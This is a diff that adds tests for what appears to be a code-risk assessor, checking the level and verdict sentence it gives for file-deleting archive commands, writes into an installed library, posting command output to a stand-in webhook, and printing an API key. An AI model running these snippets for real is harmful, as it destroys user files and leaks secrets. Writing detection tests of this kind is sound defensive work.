@@ -244,3 +244,68 @@ def test_an_answer_of_a_library_whose_name_looks_like_a_function_of_texts_is_no_
     code = "const s = require('stripe')(process.env.STRIPE_KEY);\n"
     code += "s.charges.list().then((all) => console.log(all.data.length));"
     assert attention(J, code) is Level.LOW
+
+
+@pytest.mark.parametrize(
+    ("language", "code", "level"),
+    [
+        (S, "unzip -qo notes.zip -d ~", Level.MEDIUM),
+        (S, "unzip -l notes.zip", Level.LOW),
+        (S, "rsync -a --remove-source-files ~/Pictures/ out/", Level.CRITICAL),
+        (S, "7z a n.7z ~/Pictures -sdel", Level.CRITICAL),
+        (P, "import sqlite3\nsqlite3.connect(':memory:').execute(\"VACUUM INTO '/home/ann/notes.txt'\")", Level.MEDIUM),
+        (
+            P,
+            "import os, tempfile\nbox = tempfile.TemporaryDirectory()\nbox.name = os.path.expanduser('~/Pictures')\n"
+            "box.cleanup()",
+            Level.MEDIUM,
+        ),
+        (
+            P,
+            "import requests, pathlib\npathlib.Path(requests.__file__).with_name('api.py').write_text('x')",
+            Level.HIGH,
+        ),
+    ],
+)
+def test_what_works_on_something_outside_is_said(language: Language, code: str, level: Level) -> None:
+    found = assessed(language, code)
+    assert (found.attention or Level.LOW) is level
+    assert "own temporary" not in found.verdict.sentence
+    assert "changes nothing" not in found.verdict.sentence or level is Level.LOW
+
+
+def test_results_of_tests_may_be_sent_and_the_output_of_other_commands_may_not() -> None:
+    code = "import subprocess, requests\nout = subprocess.run({!r}, capture_output=True).stdout\n"
+    code += "requests.post('https://chat.example/hook', data=out)"
+    assert attention(P, code.format(["pytest", "-q"])) is Level.MEDIUM
+    assert attention(P, code.format(["id"])) is Level.CRITICAL
+    assert attention(P, code.format(["sh", "-c", "pytest; id"])) is Level.CRITICAL
+
+
+@pytest.mark.parametrize(
+    ("language", "code", "level"),
+    [
+        (P, "import os\nprint('key', os.environ['API_KEY'][:4])", Level.LOW),
+        (P, "import os\nprint('key', os.environ['API_KEY'][-4:])", Level.LOW),
+        (P, "import os\nprint('key', os.environ['API_KEY'][:40])", Level.HIGH),
+        (P, "import os\nprint('key', os.environ['API_KEY'][4:])", Level.HIGH),
+        (J, "console.log(process.env.API_KEY.slice(0, 4));", Level.LOW),
+        (J, "console.log(process.env.API_KEY.slice(4));", Level.HIGH),
+    ],
+)
+def test_a_few_characters_of_a_secret_only_tell_which_it_is(language: Language, code: str, level: Level) -> None:
+    assert attention(language, code) is level
+
+
+@pytest.mark.parametrize(
+    ("language", "code", "sentence"),
+    [
+        (J, "const n: Record<string, number> = { a: 1 };\nconsole.log(n.a);", "Computes and prints; touches no files"),
+        (P, "import dataclasses\nA = dataclasses.make_dataclass('A', ['x'])\nprint(A(1))", "as far as could be read"),
+        (S, "rm -r a b c d", "“d”"),
+    ],
+)
+def test_a_sentence_says_no_more_than_was_read_and_hides_no_deletion(
+    language: Language, code: str, sentence: str
+) -> None:
+    assert sentence in assessed(language, code).verdict.sentence
